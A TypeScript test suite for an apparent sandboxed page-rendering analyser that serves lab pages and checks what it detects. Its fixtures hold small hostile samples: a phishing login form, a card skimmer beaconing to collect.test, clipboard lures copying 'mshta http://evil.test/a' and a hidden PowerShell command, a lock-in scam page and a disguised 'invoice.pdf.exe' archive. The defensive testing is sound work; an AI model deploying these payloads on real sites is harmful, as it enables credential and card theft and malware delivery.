import { expect } from 'chai';
import type { Capture } from '../../records/index.ts';
import { part, render, startLab, type Lab } from './lab.ts';

/** A ZIP with one stored, empty entry; `flags` is its general purpose bit flag (APPNOTE.TXT 4.4.4). */
const zip = (name: string, flags: number): Buffer => {
  const bytes = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(flags, 6);
  local.writeUInt16LE(bytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(flags, 8);
  central.writeUInt16LE(bytes.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + bytes.length, 12);
  end.writeUInt32LE(30 + bytes.length, 16);
  return Buffer.concat([local, bytes, central, bytes, end]);
};

const login = '<form action="https://collect.test/take" method="post"><label>E-mail <input name="mail" type="email"></label><input type="password" name="pw" placeholder="Passwort"><button>Anmelden</button></form>';

const pages: Readonly<Record<string, Parameters<Lab['serve']>[1]>> = {
  'http://site.test/login': `<title>Sign in</title><h1>Welcome</h1><p hidden>not shown</p>${login}<input id="otp-code" placeholder="SMS code"><a href="/help">Help</a><script>var inline = 1</script><script src="http://cdn.test/lib.js"></script>`,
  'http://cdn.test/lib.js': (_, response) => { response.writeHead(200, { 'content-type': 'text/javascript' }).end('window.lib = "external text"'); },
  'http://site.test/built': `<div id="app"></div><script>document.getElementById('app').innerHTML = ${JSON.stringify(login)};</script>`,
  'http://site.test/shadow': `<x-login></x-login><script>document.querySelector('x-login').attachShadow({ mode: 'open' }).innerHTML = ${JSON.stringify(login)};</script>`,
  'http://site.test/framed': `<p>outer</p><iframe src="http://inner.test/login"></iframe><iframe srcdoc="<p>in srcdoc</p>"></iframe><iframe src="data:text/html,<p>in data</p>"></iframe><iframe id="b"></iframe><script>document.getElementById('b').src = URL.createObjectURL(new Blob(['<p>in blob</p>'], { type: 'text/html' }));</script>`,
  'http://inner.test/login': login,
  'http://site.test/blob': `<script>location = URL.createObjectURL(new Blob([${JSON.stringify(`<title>From a blob</title>${login}`)}], { type: 'text/html' }));</script>`,
  'http://site.test/traffic': `<script>
    navigator.sendBeacon('/beacon', 'what was typed');
    fetch('/post', { method: 'POST', body: 'user=a&pass=b' });
    new WebSocket('ws://socket.test/live');
    fetch('http://gone.test:81/x').catch(() => {});
    console.log('said', 42);
    undefinedFunction();
  </script>`,
  'http://site.test/post': 'ok',
  'http://site.test/beacon': 'ok',
  'http://site.test/download': (_, response) => { response.writeHead(200, { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename="invoice.zip"' }).end(zip('invoice.pdf.exe', 0x0001)); },
  'http://site.test/blob-download': `<h1>Your file is ready</h1><script>
    const a = document.createElement('a');
    a.href = URL.createObjectURL(new Blob([Uint8Array.from(atob('${zip('open me.lnk', 0).toString('base64')}'), (c) => c.charCodeAt(0))], { type: 'application/zip' }));
    a.download = 'report.zip';
    document.body.append(a); a.click();
  </script>`,
  'http://site.test/popups': '<h1>Popups</h1><script>for (let i = 0; i < 30; i++) window.open("http://popup.test/" + i)</script>',
  'https://site.test/clipboard': '<button onclick="navigator.clipboard.writeText(\'mshta http://evil.test/a\')">Verify you are human</button>',
  'http://site.test/clipboard-old': `<button id="b">Copy the fix</button><textarea id="t">powershell -w hidden</textarea><script>
    document.getElementById('b').onclick = () => { document.getElementById('t').select(); document.execCommand('copy'); };
  </script>`,
  'http://site.test/clipboard-event': `<button id="b">Copy</button><script>
    document.addEventListener('copy', (event) => { event.clipboardData.setData('text/plain', 'cmd /c calc'); event.preventDefault(); });
    document.getElementById('b').onclick = () => document.execCommand('copy');
  </script>`,
  'http://site.test/trap': `<h1>Your computer is locked</h1><script>
    Notification.requestPermission();
    navigator.vibrate(500);
    document.documentElement.requestFullscreen().catch(() => {});
    window.onbeforeunload = () => 'stay';
    document.oncontextmenu = () => false;
    document.addEventListener('keydown', (event) => event.preventDefault());
    for (let i = 0; i < 50; i++) history.pushState({}, '', '#' + i);
    speechSynthesis.speak(new SpeechSynthesisUtterance('call this number'));
    if (navigator.webdriver) document.title = 'robot';
    void window.ethereum;
    new Function('return "' + 'x'.repeat(50) + '"')();
    document.write('<p>' + 'written '.repeat(20) + '</p>');
    new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.test' }] });
    location.href = 'search-ms:query=invoice';
  </script>`,
  'http://site.test/skimmer': '<input name="cardnumber" autocomplete="cc-number"><script>setTimeout(() => { const value = document.querySelector("input").value; navigator.sendBeacon("http://collect.test/c", value + "x"); }, 50)</script>',
  'https://site.test/native': `<pre></pre><script>
    const look = [window.open, navigator.clipboard.writeText, Function.prototype.toString, Document.prototype.execCommand, setTimeout, Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get];
    document.querySelector('pre').textContent = JSON.stringify({
      native: look.map((f) => f.toString()), own: Object.getOwnPropertyNames(window).filter((name) => name.startsWith('_')), webdriver: navigator.webdriver, chrome: typeof chrome,
      instance: (() => {}) instanceof Function, constructor: (() => {}).constructor === Function, ua: navigator.userAgent, platform: navigator.platform, brands: navigator.userAgentData?.brands?.length ?? 0, languages: navigator.languages, zone: Intl.DateTimeFormat().resolvedOptions().timeZone, width: innerWidth,
    });
  </script>`,
  'http://site.test/worker-agent': `<pre></pre><script>new Worker(URL.createObjectURL(new Blob(['postMessage(navigator.userAgent)']))).onmessage = (event) => { document.querySelector('pre').textContent = event.data; };</script>`,
};

describe('a visit of the render lane', function () {
  this.timeout(90_000);
  let lab: Lab;
  let captures: Map<string, Capture>;
  const visited = Object.keys(pages).filter((url) => !url.startsWith('http://cdn') && !url.startsWith('http://inner') && !url.endsWith('/post') && !url.endsWith('/beacon'));
  const at = (path: string): Capture | undefined => captures.get(`http://site.test${path}`);
  const behaviours = (path: string): string[] => part(at(path), 'behaviour').map(({ kind }) => kind);

  before(async () => {
    lab = await startLab();
    for (const [url, answer] of Object.entries(pages)) lab.serve(url, answer);
    captures = await render(lab, visited);
  });
  after(() => lab.close());

  it('hands over one capture a task, whatever its page does', () => {
    expect([...captures.keys()].sort()).to.deep.equal([...visited].sort());
    for (const [url, { outcome }] of captures) expect(outcome, url).to.equal('visited');
  });

  it('keeps the HTML as served and the DOM as rendered apart', () => {
    expect(part(at('/built'), 'html')).to.contain('<div id="app"></div>');
    expect(part(at('/built'), 'frames')[0]?.dom).to.contain('type="password"').and.not.contain('<div id="app"></div>');
  });

  it('reads the text that a person sees and no other', () => {
    expect(part(at('/login'), 'frames')[0]).to.include({ title: 'Sign in', url: 'http://site.test/login', parent: null });
    expect(part(at('/login'), 'frames')[0]?.text).to.contain('Welcome').and.not.contain('not shown');
  });

  it('reads forms with the purpose of each field, and fields outside of any form', () => {
    const [form, loose] = part(at('/login'), 'forms');
    expect(form).to.include({ action: 'https://collect.test/take', method: 'post', loose: false, frameUrl: 'http://site.test/login' });
    expect(form?.fields.map(({ purpose }) => purpose)).to.deep.equal(['email', 'password', 'submit']);
    expect(loose).to.include({ loose: true, action: null });
    expect(loose?.fields.map(({ purpose }) => purpose)).to.deep.equal(['one-time-code']);
  });

  it('finds a form in an open shadow root', () => {
    expect(part(at('/shadow'), 'forms').flatMap(({ fields }) => fields.map(({ purpose }) => purpose))).to.include('password');
    expect(part(at('/shadow'), 'frames')[0]?.dom).to.contain('shadowrootmode');
  });

  it('reads links, inline scripts and the text of external ones', () => {
    expect(part(at('/login'), 'links')).to.deep.equal([{ href: 'http://site.test/help', text: 'Help' }]);
    const scripts = part(at('/login'), 'scripts');
    expect(scripts.find(({ kind }) => kind === 'inline')?.text).to.equal('var inline = 1');
    expect(scripts.find(({ url }) => url === 'http://cdn.test/lib.js')).to.include({ kind: 'external', text: 'window.lib = "external text"' });
  });

  it('reads every frame: another site, srcdoc, data: and blob:', () => {
    const frames = part(at('/framed'), 'frames');
    expect(frames.map(({ url }) => url.split(':')[0])).to.have.members(['http', 'http', 'about', 'data', 'blob']);
    expect(frames.map(({ text }) => text)).to.include.members(['in srcdoc', 'in data', 'in blob']);
    expect(frames.slice(1).every(({ parent }) => parent === 0)).to.equal(true);
    expect(part(at('/framed'), 'forms')[0]).to.include({ frameUrl: 'http://inner.test/login' });
  });

  it('follows a page into a blob: document', () => {
    expect(at('/blob')?.finalUrl).to.match(/^blob:http:\/\/site\.test\//);
    expect(part(at('/blob'), 'frames')[0]).to.include({ title: 'From a blob' });
    expect(part(at('/blob'), 'forms')).to.have.length(1);
    expect(part(at('/blob'), 'redirects')).to.have.length(1);
  });

  it('records requests with what they sent, WebSockets, and what failed', () => {
    const requests = part(at('/traffic'), 'requests');
    expect(requests.find(({ url }) => url.endsWith('/post'))).to.include({ method: 'POST', postData: 'user=a&pass=b', status: 200, type: 'fetch' });
    expect(requests.find(({ url }) => url.endsWith('/beacon'))).to.include({ method: 'POST', postData: 'what was typed', type: 'ping' });
    expect(requests.find(({ type }) => type === 'websocket')?.url).to.equal('ws://socket.test/live');
    expect(requests.find(({ url }) => url.includes('gone.test'))?.failure).to.be.a('string');
    expect(part(at('/traffic'), 'connections').map(({ host }) => host)).to.include.members(['site.test', 'socket.test']);
  });

  it('records what the page prints and throws', () => {
    const lines = part(at('/traffic'), 'console');
    expect(lines).to.deep.include({ level: 'log', text: 'said 42' });
    expect(lines.find(({ level }) => level === 'exception')?.text).to.contain('undefinedFunction');
  });

  it('takes a download for what its bytes are, and says that an archive is locked', () => {
    const [download] = part(at('/download'), 'downloads');
    expect(download).to.include({ name: 'invoice.zip', claimedType: 'application/octet-stream', detectedType: 'application/zip', unprompted: true, url: 'http://site.test/download' });
    expect(download?.archive).to.deep.include({ names: ['invoice.pdf.exe'], encrypted: true });
    expect(Buffer.from(download?.body ?? []).equals(zip('invoice.pdf.exe', 1))).to.equal(true);
    expect(download?.bytes).to.equal(download?.body.length);
  });

  it('takes a download that a script made out of a blob', () => {
    const [download] = part(at('/blob-download'), 'downloads');
    expect(download).to.include({ name: 'report.zip', detectedType: 'application/zip' });
    expect(download?.archive).to.deep.include({ names: ['open me.lnk'], encrypted: false });
  });

  it('tells of popups and closes them', () => {
    const popups = part(at('/popups'), 'behaviour').filter(({ kind }) => kind === 'popup');
    expect(popups[0]).to.include({ detail: 'http://popup.test/0', unprompted: true, frameUrl: 'http://site.test/popups' });
    expect(popups.length).to.be.lessThan(30);
  });

  for (const [url, copied] of [
    ['https://site.test/clipboard', 'mshta http://evil.test/a'],
    ['http://site.test/clipboard-old', 'powershell -w hidden'],
    ['http://site.test/clipboard-event', 'cmd /c calc'],
  ] as const) {
    it(`presses the lure of ${url} and sees what it copies`, () => {
      const writes = part(captures.get(url), 'behaviour').filter(({ kind }) => kind === 'clipboard-write');
      expect(writes).to.have.length(1);
      expect(writes[0]).to.include({ detail: copied, unprompted: false });
    });
  }

  it('sees what a page does to lock its visitor in', () => {
    expect(behaviours('/trap')).to.include.members(['fullscreen', 'beforeunload', 'contextmenu-blocked', 'key-blocked', 'history-push', 'audio', 'environment-test', 'wallet-request', 'eval', 'document-write', 'worker', 'webrtc', 'vibrate', 'notification-request']);
  });

  it('counts a flood instead of repeating it', () => {
    const floods = part(at('/trap'), 'behaviour').filter(({ kind }) => kind === 'history-push');
    expect(floods).to.have.length(1);
    expect(floods[0]?.count).to.be.at.least(10);
  });

  it('sees a page hand over to another program', () => {
    expect(part(at('/trap'), 'behaviour').find(({ kind }) => kind === 'external-protocol')?.detail).to.equal('search-ms:query=invoice');
  });

  it('sees a card field read and sent', () => {
    expect(part(at('/skimmer'), 'behaviour').find(({ kind }) => kind === 'field-read')?.detail).to.equal('cardnumber -> http://collect.test/c');
  });

  it('is hard to tell from a person by its built-ins', () => {
    const told = JSON.parse(part(captures.get('https://site.test/native'), 'frames')[0]?.text ?? '{}') as { native: string[]; own: string[]; [name: string]: unknown };
    for (const text of told.native) expect(text).to.match(/^function [\w ]*\(\) \{ \[native code\] \}$/);
    expect(told).to.deep.include({ own: [], webdriver: false, chrome: 'object', instance: true, constructor: true });
    expect(told).to.deep.include({ platform: 'Win32', brands: 3, zone: 'America/New_York', width: 1366, languages: ['en-US', 'en'] });
    expect(told['ua']).to.equal(lab.profiles[0]?.userAgent);
  });

  it('shows workers the same user agent', () => {
    expect(part(at('/worker-agent'), 'frames')[0]?.text).to.equal(lab.profiles[0]?.userAgent);
  });

  it('takes a JPEG of the first view in the size of the profile', () => {
    const shot = part(at('/login'), 'screenshot');
    expect(shot).to.include({ type: 'image/jpeg', width: 1366, height: 768 });
    expect(Buffer.from(shot.body).subarray(0, 2).toString('hex')).to.equal('ffd8');
  });

  it('records the certificate of an https page, trusted through the extra authority', () => {
    const [record] = part(captures.get('https://site.test/clipboard'), 'tls');
    expect(record).to.include({ host: 'site.test', issuer: 'Harrier Range Authority', subject: 'site.test', error: null });
    expect(record?.names).to.deep.equal(['site.test']);
  });

  it('reads every part of an ordinary page', () => {
    const without = ['pictureText', 'fullScreenshot', 'submissions'];
    for (const [name, { state }] of Object.entries(at('/login')?.parts ?? {})) if (!without.includes(name)) expect(state, name).to.equal('collected');
  });
});
